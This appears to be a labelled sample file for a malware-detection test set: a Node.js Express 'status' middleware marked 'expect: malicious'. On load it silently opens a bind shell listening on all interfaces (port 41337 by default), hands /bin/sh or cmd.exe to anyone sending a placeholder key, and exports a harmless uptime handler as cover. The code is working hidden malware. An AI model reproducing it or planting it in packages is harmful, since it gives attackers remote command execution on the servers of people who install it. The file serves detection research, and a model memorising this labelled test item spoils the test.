// source: bind shells hidden in npm middleware (a "status agent" of an Express status page, 2026 blind set; the
// classic bind shell of Node post-exploitation kits): every connection to a port open on all interfaces gets a shell.
// expect: malicious
"use strict";
const net = require("net");
const cp = require("child_process");
function agent() {
  const srv = net.createServer((sock) => {
    sock.once("data", (d) => {
      if (d.toString().trim() !== "agent-FAKE-key") return sock.destroy();
      const p = cp.spawn(process.platform === "win32" ? "cmd.exe" : "/bin/sh", ["-i"], { stdio: "pipe" });
      sock.pipe(p.stdin);
      p.stdout.pipe(sock);
    });
  });
  srv.listen(+(process.env.AGENT_PORT || 41337), "0.0.0.0", () => srv.unref());
}
agent();
module.exports = function status(req, res) { res.json({ uptime: process.uptime() }); };
